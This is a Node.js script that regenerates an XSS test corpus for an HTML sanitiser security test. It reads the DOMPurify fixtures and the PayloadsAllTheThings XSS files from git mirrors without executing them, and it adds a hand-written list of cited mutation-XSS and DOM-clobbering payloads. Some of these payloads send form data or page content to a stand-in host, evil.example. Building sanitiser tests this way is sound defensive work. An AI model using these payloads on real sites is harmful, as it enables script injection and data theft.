#!/usr/bin/env node
/**
 * gather-xss-corpus.mjs — regenerate test/security/xss-corpus.json.
 *
 * Builds the public XSS attack corpus that the sanitiser security test feeds,
 * payload by payload, through our HTML sanitiser in real Chromium.
 *
 * Inputs are local *bare* git mirrors (no work tree) of two public repositories.
 * Files are read with `git --git-dir=<dir> show <commit>:<path>`; nothing is
 * checked out, installed, imported or executed from those repositories.
 *
 *   cure53/DOMPurify                 test/fixtures/expect.{mjs,js,json}: every
 *                                    fixture's `payload` (parsed as a data
 *                                    literal by a tiny parser below — no eval,
 *                                    no import()).
 *   swisskyrepo/PayloadsAllTheThings "XSS Injection/": every .txt wordlist
 *                                    (one payload per line), lines of fenced
 *                                    code blocks in its .md files that contain
 *                                    `<` or `javascript:`, and the small
 *                                    markup files under Files/ (whole file).
 *   mxss-classics                    hand-written list below (MXSS_CLASSICS),
 *                                    each payload with a one-line `citation`.
 *
 * Usage (from the repository root):
 *
 *   node scripts/security/gather-xss-corpus.mjs \
 *     --dompurify /path/to/cure53+DOMPurify/repo \
 *     --patt      /path/to/swisskyrepo+PayloadsAllTheThings/repo \
 *     [--dompurify-rev <rev>] [--patt-rev <rev>] [--out <file>]
 *
 * or with environment variables instead of flags:
 *
 *   DOMPURIFY_GIT_DIR=...  PATT_GIT_DIR=...  [DOMPURIFY_REV=...] [PATT_REV=...]
 *   [XSS_CORPUS_OUT=...]   node scripts/security/gather-xss-corpus.mjs
 *
 * Revisions default to HEAD of each mirror and are recorded as full 40-hex
 * commit ids. --out defaults to test/security/xss-corpus.json (relative to
 * this script's repository). A per-source summary is printed to stderr.
 *
 * Output shape:
 *   { about, sources: [{ id, repo, commit, paths, license, count, extracted }],
 *     payloads: [{ source, path?, citation?, payload }] }
 * `count` = payloads in the output attributed to that source; `extracted` =
 * non-empty strings it yielded before cross-source de-duplication. Payloads are
 * de-duplicated by exact string (first source wins, order: sources as listed,
 * then file order, then line order). Empty / whitespace-only strings are
 * dropped. Wordlist lines are kept verbatim except for a trailing "\r";
 * markdown code lines are trimmed (indentation is formatting). Payloads from
 * mxss-classics carry a `citation` instead of a `path`.
 *
 * No dependencies beyond node: built-ins.
 */

import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const HERE = dirname(fileURLToPath(import.meta.url));
const DEFAULT_OUT = resolve(HERE, '../../test/security/xss-corpus.json');

// ---------------------------------------------------------------------------
// Hand-written mutation-XSS / DOM-clobbering classics (test data, with source).
// `citation` is one line naming where the payload (or the technique it is a
// variant of) was published. "variant" means the exact string was written for
// this corpus following the cited technique.
// ---------------------------------------------------------------------------
const MXSS_CLASSICS = [
  // --- Michał Bentkowski / Securitum ------------------------------------------
  {
    payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    citation: 'Michał Bentkowski (Securitum, 2019), "Write-up of DOMPurify 2.0.0 bypass using mutation XSS" — research.securitum.com',
  },
  {
    payload: '<svg></p><title><a id="</title><img src=1 onerror=alert(1)>">',
    citation: 'variant of Bentkowski 2019 DOMPurify 2.0.0 mXSS (svg </p> breakout, RCDATA <title> instead of <style>)',
  },
  {
    payload: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    citation: 'Michał Bentkowski (Securitum, 2020), "Mutation XSS via namespace confusion – DOMPurify < 2.0.17 bypass" — research.securitum.com',
  },
  {
    payload: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    citation: 'Michał Bentkowski (Securitum, 2020), DOMPurify < 2.0.17 namespace-confusion write-up, final payload',
  },
  {
    payload: '<math><mi><table><mi><style><img src onerror=alert(1)>',
    citation: 'variant of Bentkowski 2020 namespace confusion (MathML text integration point + table foster-parenting)',
  },
  {
    payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    citation: 'variant of Bentkowski 2020 / Heyes 2020 (mglyph under mtext inside table, <style> namespace flip)',
  },
  // --- Gareth Heyes / PortSwigger Research --------------------------------------
  {
    payload: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    citation: 'Gareth Heyes (PortSwigger Research, 2020), "Bypassing DOMPurify again with mutation XSS" — portswigger.net/research',
  },
  {
    payload: '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    citation: 'HTML integration point annotation-xml[encoding=text/html]; namespace-confusion class described by Heyes / Bentkowski (2020)',
  },
  {
    payload: '<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>',
    citation: 'svg/HTML <style> namespace confusion (comment in SVG <style> becomes raw text in HTML); Heyes / Bentkowski mXSS research 2020',
  },
  {
    payload: '<math><style><!--</style><img src=x onerror=alert(1)>--></style></math>',
    citation: 'MathML variant of the <style> namespace confusion above (Heyes / Bentkowski mXSS research 2020)',
  },
  {
    payload: '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    citation: 'entity decoding in foreign-content <style> vs raw-text HTML <style>; Heiderich et al. mXSS class (CCS 2013)',
  },
  // --- Masato Kinugawa: noscript scripting-flag differential -----------------------
  {
    payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    citation: 'Masato Kinugawa (2019), Google Search mXSS via <noscript> parsed with scripting disabled in the sanitiser (Closure HTML sanitizer)',
  },
  {
    payload: '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>',
    citation: 'noscript/comment variant of Kinugawa 2019 (comment hides </noscript> only when scripting is disabled)',
  },
  {
    payload: '<noscript><style></noscript><img src=x onerror=alert(1)>',
    citation: 'noscript/style variant of Kinugawa 2019 scripting-flag differential',
  },
  // --- Raw-text / RCDATA attribute breakouts (HTML Standard tokenizer states) ----
  {
    payload: '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    citation: 'RCDATA <textarea> breakout; same shape as Kinugawa 2019 noscript payload (HTML Standard §13.2.5 RCDATA state)',
  },
  {
    payload: '<title><p title="</title><img src=x onerror=alert(1)>">',
    citation: 'RCDATA <title> breakout; same shape as Kinugawa 2019 noscript payload',
  },
  {
    payload: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    citation: 'raw-text <xmp> breakout; same shape as Kinugawa 2019 noscript payload',
  },
  {
    payload: '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    citation: 'raw-text <iframe> breakout; same shape as Kinugawa 2019 noscript payload',
  },
  {
    payload: '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    citation: 'raw-text <noembed> breakout; same shape as Kinugawa 2019 noscript payload',
  },
  {
    payload: '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    citation: 'raw-text <noframes> breakout; same shape as Kinugawa 2019 noscript payload',
  },
  {
    payload: '<style><p title="</style><img src=x onerror=alert(1)>">',
    citation: 'raw-text <style> breakout; same shape as Kinugawa 2019 noscript payload',
  },
  {
    payload: '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=alert(1)></option></select>',
    citation: 'customizable <select>: option content is cloned into <selectedcontent> (WHATWG HTML, 2025); variant written for this corpus',
  },
  {
    payload: '<select><button><selectedcontent></selectedcontent></button><option selected><svg><style><img src=x onerror=alert(1)></style></svg></option></select>',
    citation: 'customizable <select> + svg <style> namespace confusion; variant written for this corpus',
  },
  // --- template / comments / CDATA -----------------------------------------------
  {
    payload: '<template><img src=x onerror=alert(1)></template>',
    citation: 'inert <template> content (DocumentFragment) must be sanitised recursively; DOMPurify fixtures / issue history',
  },
  {
    payload: '<template><style></template><img src=x onerror=alert(1)></style></template>',
    citation: 'template/raw-text reparse variant written for this corpus (Heiderich et al. mXSS class, CCS 2013)',
  },
  {
    payload: '<!--><img src=x onerror=alert(1)>-->',
    citation: 'HTML Standard parse error "abrupt-closing-of-empty-comment" (<!--> closes the comment)',
  },
  {
    payload: '<!-- --!><img src=x onerror=alert(1)>-->',
    citation: 'HTML Standard parse error "incorrectly-closed-comment" (--!> closes the comment)',
  },
  {
    payload: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    citation: 'CDATA section in foreign content vs bogus comment in HTML content; cf. DOMPurify fixture "<svg><![CDATA[><image xlink:href=…"',
  },
  {
    payload: '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
    citation: 'CDATA inside an SVG HTML integration point (<desc>); cf. PayloadsAllTheThings XSS Files/SVG_XSS1.svg',
  },
  // --- Mario Heiderich et al., mXSS (CCS 2013) and html5sec.org ------------------
  {
    payload: '<img src="test.jpg" alt="``onload=alert(1)">',
    citation: 'Heiderich, Schwenk, Frosch, Magazinius, Yang, "mXSS Attacks: Attacking well-secured Web-Applications by using innerHTML Mutations" (CCS 2013): backtick attribute mutation',
  },
  {
    payload: '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    citation: 'Heiderich et al. mXSS (CCS 2013): <listing> entity mutation on innerHTML round-trip',
  },
  {
    payload: '<button formaction="javascript:alert(1)">x</button>',
    citation: 'Mario Heiderich, HTML5 Security Cheatsheet (html5sec.org #1): formaction',
  },
  // --- DOM clobbering -------------------------------------------------------------
  {
    payload: '<form onmouseover=alert(1)><input name="attributes">',
    citation: 'DOM clobbering of form.attributes to blind sanitiser attribute loops; PortSwigger Web Security Academy "Clobbering DOM attributes to bypass HTML filters"',
  },
  {
    payload: '<form id=x tabindex=0 onfocus=alert(1)><input id=attributes>',
    citation: 'PortSwigger Web Security Academy, DOM clobbering lab "Clobbering DOM attributes to bypass HTML filters"',
  },
  {
    payload: '<img name="cookie">',
    citation: 'document named-property clobbering (Document is [LegacyOverrideBuiltIns]); Heiderich, "In the DOM, no one will hear you scream" (2013)',
  },
  {
    payload: '<form id="talat-config">',
    citation: 'window named access (HTML Standard §7.2.2.3) against Talat\'s own global config name; written for this corpus',
  },
  {
    payload: '<a id="defaultView">',
    citation: 'clobbering document/window properties sanitisers rely on (DOMPurify SANITIZE_DOM rationale)',
  },
  {
    payload: '<img src=x name=getElementById>',
    citation: 'document named-property clobbering of DOM APIs; Heiderich 2013 / DOMPurify clobbering fixtures',
  },
  {
    payload: '<a id=x><a id=x name=y href="javascript:alert(1)">',
    citation: 'HTMLCollection clobbering (window.x.y); Gareth Heyes, "DOM clobbering strikes back" (PortSwigger Research, 2020)',
  },
  {
    payload: '<form id=x><output id=y>javascript:alert(1)</output></form>',
    citation: 'form-element clobbering (x.y.value); PortSwigger Web Security Academy "DOM clobbering"',
  },
  {
    payload: '<iframe name=x srcdoc="<a id=y href=javascript:alert(1)></a>"></iframe>',
    citation: 'window-proxy clobbering via named iframe (window.x.y); Gareth Heyes, "DOM clobbering strikes back" (2020)',
  },
  // --- form hijacking / post-XSS (dangling markup) ---------------------------------
  {
    payload: '<button form="checkout" formaction="https://evil.example/">Pay now</button>',
    citation: 'formaction hijacking of a form elsewhere on the page via the form="" attribute; Zalewski, "Postcards from the post-XSS world" (2011)',
  },
  {
    payload: '<input type="submit" form="checkout" formaction="https://evil.example/" value="Pay">',
    citation: 'formaction hijacking via <input type=submit form=…>; Zalewski, "Postcards from the post-XSS world" (2011)',
  },
  {
    payload: '<input form="checkout" name="redirect" value="https://evil.example/">',
    citation: 'injecting fields into a remote form via form=""; Zalewski, "Postcards from the post-XSS world" (2011)',
  },
  {
    payload: '<img src=\'https://evil.example/?',
    citation: 'dangling markup injection; Zalewski, "Postcards from the post-XSS world" (2011); PortSwigger "Dangling markup injection"',
  },
  {
    payload: '<base href="https://evil.example/">',
    citation: '<base> hijacking of relative URLs; Zalewski, "Postcards from the post-XSS world" (2011)',
  },
  {
    payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    citation: 'meta refresh to javascript: URL; RSnake XSS cheat sheet / OWASP XSS Filter Evasion Cheat Sheet',
  },
];

// ---------------------------------------------------------------------------
// CLI
// ---------------------------------------------------------------------------
const { values: args } = parseArgs({
  options: {
    dompurify: { type: 'string' },
    patt: { type: 'string' },
    'dompurify-rev': { type: 'string' },
    'patt-rev': { type: 'string' },
    out: { type: 'string' },
    help: { type: 'boolean', short: 'h' },
  },
});

if (args.help) {
  process.stdout.write(
    'usage: node scripts/security/gather-xss-corpus.mjs --dompurify <git-dir> --patt <git-dir>\n' +
      '       [--dompurify-rev <rev>] [--patt-rev <rev>] [--out <file>]\n' +
      '  (or DOMPURIFY_GIT_DIR, PATT_GIT_DIR, DOMPURIFY_REV, PATT_REV, XSS_CORPUS_OUT)\n',
  );
  process.exit(0);
}

const DOMPURIFY_DIR = args.dompurify ?? process.env.DOMPURIFY_GIT_DIR;
const PATT_DIR = args.patt ?? process.env.PATT_GIT_DIR;
const OUT = resolve(args.out ?? process.env.XSS_CORPUS_OUT ?? DEFAULT_OUT);
if (!DOMPURIFY_DIR || !PATT_DIR) {
  process.stderr.write('error: need --dompurify <git-dir> and --patt <git-dir> (or DOMPURIFY_GIT_DIR / PATT_GIT_DIR); see header comment\n');
  process.exit(2);
}

// ---------------------------------------------------------------------------
// git helpers (bare mirrors: no work tree)
// ---------------------------------------------------------------------------
function git(gitDir, argv) {
  return execFileSync('git', ['--git-dir', gitDir, ...argv], {
    maxBuffer: 256 * 1024 * 1024,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
}

function resolveCommit(gitDir, rev) {
  const id = git(gitDir, ['rev-parse', '--verify', `${rev}^{commit}`]).toString('utf8').trim();
  if (!/^[0-9a-f]{40}$/.test(id)) throw new Error(`could not resolve ${rev} in ${gitDir}`);
  return id;
}

function listFiles(gitDir, commit, under) {
  const out = git(gitDir, ['ls-tree', '-r', '-z', '--name-only', commit, '--', under]).toString('utf8');
  return out.split('\0').filter(Boolean).sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
}

const warnings = [];
const utf8 = new TextDecoder('utf-8', { fatal: true });

function readBlob(gitDir, commit, path) {
  const buf = git(gitDir, ['show', `${commit}:${path}`]);
  try {
    return { text: utf8.decode(buf), binary: buf.includes(0) };
  } catch {
    return { text: null, binary: true };
  }
}

function readText(gitDir, commit, path) {
  const { text } = readBlob(gitDir, commit, path);
  if (text === null) {
    warnings.push(`${path}: not valid UTF-8, decoded with replacement characters`);
    return git(gitDir, ['show', `${commit}:${path}`]).toString('utf8');
  }
  return text;
}

// ---------------------------------------------------------------------------
// Safe data-literal parser for DOMPurify's fixture module.
// Accepts: `export default <literal>;` (or `module.exports = <literal>;`, or a
// plain JSON file), where <literal> is built only from arrays, objects
// (identifier or string keys), strings ('…', "…", `…` without ${}), numbers,
// true/false/null. Anything else is an error — nothing is evaluated.
// ---------------------------------------------------------------------------
function parseDataModule(src, name) {
  let i = 0;
  const fail = (msg) => {
    const line = src.slice(0, i).split('\n').length;
    throw new Error(`${name}:${line}: ${msg}`);
  };
  const skip = () => {
    for (;;) {
      const c = src[i];
      if (c === ' ' || c === '\t' || c === '\n' || c === '\r' || c === '\uFEFF') i++;
      else if (src.startsWith('//', i)) {
        const e = src.indexOf('\n', i);
        i = e < 0 ? src.length : e + 1;
      } else if (src.startsWith('/*', i)) {
        const e = src.indexOf('*/', i + 2);
        if (e < 0) fail('unterminated comment');
        i = e + 2;
      } else return;
    }
  };
  const eat = (tok) => {
    skip();
    if (!src.startsWith(tok, i)) return false;
    i += tok.length;
    return true;
  };
  const hex = (n) => {
    const h = src.slice(i, i + n);
    if (!new RegExp(`^[0-9a-fA-F]{${n}}$`).test(h)) fail('bad hex escape');
    i += n;
    return parseInt(h, 16);
  };
  const string = () => {
    const q = src[i++];
    let s = '';
    for (;;) {
      if (i >= src.length) fail('unterminated string');
      const c = src[i++];
      if (c === q) return s;
      if (q === '`' && c === '$' && src[i] === '{') fail('template substitution not allowed');
      if ((c === '\n' || c === '\r') && q !== '`') fail('newline in string');
      if (c !== '\\') {
        s += c;
        continue;
      }
      const e = src[i++];
      switch (e) {
        case 'n': s += '\n'; break;
        case 't': s += '\t'; break;
        case 'r': s += '\r'; break;
        case 'b': s += '\b'; break;
        case 'f': s += '\f'; break;
        case 'v': s += '\v'; break;
        case '0':
          if (/[0-9]/.test(src[i])) fail('legacy octal escape');
          s += '\0';
          break;
        case 'x': s += String.fromCharCode(hex(2)); break;
        case 'u':
          if (src[i] === '{') {
            const e2 = src.indexOf('}', i);
            const cp = parseInt(src.slice(i + 1, e2), 16);
            if (!(e2 > i + 1 && Number.isFinite(cp) && cp <= 0x10ffff)) fail('bad \\u{} escape');
            s += String.fromCodePoint(cp);
            i = e2 + 1;
          } else s += String.fromCharCode(hex(4));
          break;
        case '\r':
          if (src[i] === '\n') i++;
          break;
        case '\n':
        case '\u2028':
        case '\u2029':
          break;
        default:
          if (e === undefined) fail('unterminated string');
          if (/[1-9]/.test(e)) fail('legacy octal escape');
          s += e;
      }
    }
  };
  const value = () => {
    skip();
    const c = src[i];
    if (c === '[') {
      i++;
      const arr = [];
      for (;;) {
        if (eat(']')) return arr;
        arr.push(value());
        if (eat(',')) continue;
        if (eat(']')) return arr;
        fail('expected , or ]');
      }
    }
    if (c === '{') {
      i++;
      const obj = {};
      for (;;) {
        if (eat('}')) return obj;
        skip();
        let key;
        if (src[i] === '"' || src[i] === "'") key = string();
        else {
          const m = /^[A-Za-z_$][\w$]*/.exec(src.slice(i, i + 256));
          if (!m) fail('expected property key');
          key = m[0];
          i += key.length;
        }
        if (!eat(':')) fail('expected :');
        if (key === '__proto__') fail('__proto__ key not allowed');
        obj[key] = value();
        if (eat(',')) continue;
        if (eat('}')) return obj;
        fail('expected , or }');
      }
    }
    if (c === '"' || c === "'" || c === '`') return string();
    const m = /^(?:-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?|true|false|null)(?![\w$])/.exec(src.slice(i, i + 64));
    if (!m) fail(`unexpected token ${JSON.stringify(src.slice(i, i + 20))}`);
    i += m[0].length;
    return m[0] === 'true' ? true : m[0] === 'false' ? false : m[0] === 'null' ? null : Number(m[0]);
  };

  skip();
  if (src.startsWith('export default', i)) i += 'export default'.length;
  else if (src.startsWith('module.exports', i)) {
    i += 'module.exports'.length;
    if (!eat('=')) fail('expected =');
  }
  const result = value();
  eat(';');
  skip();
  if (i !== src.length) fail('trailing content after the data literal (not a plain data module)');
  return result;
}

// ---------------------------------------------------------------------------
// Collectors. Each returns { paths, items: [{ path?, citation?, payload }] }.
// ---------------------------------------------------------------------------
const isBlank = (s) => typeof s !== 'string' || s.trim() === '';

function collectDomPurify(gitDir, commit) {
  const candidates = listFiles(gitDir, commit, 'test').filter((p) =>
    /^test\/fixtures\/[^/]+\.(?:mjs|js|cjs|json)$/.test(p),
  );
  if (candidates.length === 0) throw new Error('DOMPurify: no test/fixtures/*.{mjs,js,json} at that commit');
  const paths = [];
  const items = [];
  for (const path of candidates) {
    const text = readText(gitDir, commit, path);
    const data = path.endsWith('.json') ? JSON.parse(text) : parseDataModule(text, path);
    if (!Array.isArray(data)) throw new Error(`${path}: expected an array of fixtures`);
    paths.push(path);
    for (const fx of data) {
      if (fx && typeof fx === 'object' && typeof fx.payload === 'string') items.push({ path, payload: fx.payload });
    }
  }
  return { paths, items };
}

const PATT_ROOT = 'XSS Injection';
const HEADER_COMMENT = /^#\s*[\w ./&-]*:?\s*$/; // "#Google.com:", "#AOL/Yahoo", "#Others:"

function collectPattWordlists(gitDir, commit) {
  const paths = listFiles(gitDir, commit, PATT_ROOT).filter((p) => p.toLowerCase().endsWith('.txt'));
  const items = [];
  for (const path of paths) {
    const lines = readText(gitDir, commit, path).split('\n');
    for (let line of lines) {
      if (line.endsWith('\r')) line = line.slice(0, -1);
      if (isBlank(line)) continue;
      if (HEADER_COMMENT.test(line.trim())) continue; // section headers, not payloads
      items.push({ path, payload: line });
    }
  }
  return { paths, items };
}

const NON_PAYLOAD_FENCES = new Set(['php', 'ps1', 'powershell', 'csharp', 'cs', 'python', 'py', 'bash', 'sh', 'shell', 'console', 'ruby', 'go', 'java']);

function collectPattMarkdown(gitDir, commit) {
  const paths = listFiles(gitDir, commit, PATT_ROOT).filter((p) => p.toLowerCase().endsWith('.md'));
  const items = [];
  for (const path of paths) {
    let fence = null; // { marker, lang } while inside a fenced block
    for (const raw of readText(gitDir, commit, path).split('\n')) {
      const line = raw.replace(/\r$/, '');
      const m = /^\s*(`{3,}|~{3,})\s*([\w+-]*)/.exec(line);
      if (m && (!fence || (m[1][0] === fence.marker[0] && m[1].length >= fence.marker.length && !m[2]))) {
        fence = fence ? null : { marker: m[1], lang: m[2].toLowerCase() };
        continue;
      }
      if (!fence || NON_PAYLOAD_FENCES.has(fence.lang)) continue;
      const t = line.trim();
      if (t === '' || !(t.includes('<') || /javascript:/i.test(t))) continue;
      items.push({ path, payload: t });
    }
  }
  return { paths, items };
}

function collectPattFiles(gitDir, commit) {
  const all = listFiles(gitDir, commit, `${PATT_ROOT}/Files`);
  const paths = [];
  const items = [];
  for (const path of all) {
    const { text, binary } = readBlob(gitDir, commit, path);
    if (text === null || binary) continue; // images, swf, …
    const body = text.replace(/\r\n/g, '\n').replace(/\n+$/, '');
    if (!body.trimStart().startsWith('<')) continue; // only markup documents (svg/xml/html…)
    paths.push(path);
    items.push({ path, payload: body });
  }
  return { paths, items };
}

function licenseCheck(gitDir, commit, needle, label) {
  for (const path of ['LICENSE', 'LICENSE.md', 'LICENSE.txt']) {
    try {
      if (readText(gitDir, commit, path).includes(needle)) return;
    } catch {
      // try next name
    }
  }
  warnings.push(`${label}: LICENSE does not mention "${needle}" — check the license field`);
}

// ---------------------------------------------------------------------------
// Main
// ---------------------------------------------------------------------------
const dpCommit = resolveCommit(DOMPURIFY_DIR, args['dompurify-rev'] ?? process.env.DOMPURIFY_REV ?? 'HEAD');
const pattCommit = resolveCommit(PATT_DIR, args['patt-rev'] ?? process.env.PATT_REV ?? 'HEAD');
licenseCheck(DOMPURIFY_DIR, dpCommit, 'Apache License', 'cure53/DOMPurify');
licenseCheck(PATT_DIR, pattCommit, 'MIT License', 'swisskyrepo/PayloadsAllTheThings');

const sources = [
  {
    id: 'dompurify-fixtures',
    repo: 'cure53/DOMPurify',
    commit: dpCommit,
    license: 'Apache-2.0 OR MPL-2.0',
    ...collectDomPurify(DOMPURIFY_DIR, dpCommit),
  },
  {
    id: 'patt-xss-wordlists',
    repo: 'swisskyrepo/PayloadsAllTheThings',
    commit: pattCommit,
    license: 'MIT',
    ...collectPattWordlists(PATT_DIR, pattCommit),
  },
  {
    id: 'patt-xss-markdown',
    repo: 'swisskyrepo/PayloadsAllTheThings',
    commit: pattCommit,
    license: 'MIT',
    ...collectPattMarkdown(PATT_DIR, pattCommit),
  },
  {
    id: 'patt-xss-files',
    repo: 'swisskyrepo/PayloadsAllTheThings',
    commit: pattCommit,
    license: 'MIT',
    ...collectPattFiles(PATT_DIR, pattCommit),
  },
  {
    id: 'mxss-classics',
    repo: null,
    commit: null,
    license: 'n/a: short payload strings from public write-ups, one citation per payload',
    paths: [],
    items: MXSS_CLASSICS.map(({ payload, citation }) => ({ citation, payload })),
  },
];

const seen = new Set();
const payloads = [];
const summary = [];
for (const src of sources) {
  let extracted = 0;
  let count = 0;
  for (const item of src.items) {
    if (isBlank(item.payload)) continue;
    extracted++;
    if (seen.has(item.payload)) continue;
    seen.add(item.payload);
    count++;
    payloads.push({ source: src.id, ...item });
  }
  src.extracted = extracted;
  src.count = count;
  summary.push({ id: src.id, extracted, unique: count, dropped: extracted - count });
}

const corpus = {
  about:
    'Public XSS/mXSS attack payloads (DOMPurify fixtures, PayloadsAllTheThings XSS wordlists and docs, cited mXSS classics) used as sanitiser test data; regenerate with scripts/security/gather-xss-corpus.mjs.',
  sources: sources.map(({ id, repo, commit, paths, license, count, extracted }) => ({
    id,
    repo,
    commit,
    paths,
    license,
    count,
    extracted,
  })),
  payloads,
};

// One payload per line keeps diffs of the fixture readable.
const json =
  `{\n "about": ${JSON.stringify(corpus.about)},\n` +
  ` "sources": [\n${corpus.sources.map((s) => `  ${JSON.stringify(s)}`).join(',\n')}\n ],\n` +
  ` "payloads": [\n${corpus.payloads.map((p) => `  ${JSON.stringify(p)}`).join(',\n')}\n ]\n}\n`;
mkdirSync(dirname(OUT), { recursive: true });
writeFileSync(OUT, json);

const withNul = payloads.filter((p) => p.payload.includes('\0')).length;
const isOtherControl = (ch) => {
  const c = ch.charCodeAt(0);
  return (c > 0 && c < 0x20 && ch !== '\t' && ch !== '\n' && ch !== '\r') || c === 0x7f;
};
const withCtl = payloads.filter((p) => [...p.payload].some(isOtherControl)).length;
const withNl = payloads.filter((p) => p.payload.includes('\n')).length;
console.error(`DOMPurify                 ${DOMPURIFY_DIR} @ ${dpCommit}`);
console.error(`PayloadsAllTheThings      ${PATT_DIR} @ ${pattCommit}`);
console.error('source                 extracted  unique  dropped(dup)');
for (const r of summary) {
  console.error(`${r.id.padEnd(22)} ${String(r.extracted).padStart(9)} ${String(r.unique).padStart(7)} ${String(r.dropped).padStart(8)}`);
}
console.error(`total unique payloads: ${payloads.length}`);
console.error(`payloads with NUL: ${withNul}, other C0 controls: ${withCtl}, multi-line: ${withNl}`);
console.error(`wrote ${OUT} (${Buffer.byteLength(json)} bytes)`);
for (const w of warnings) console.error(`warning: ${w}`);
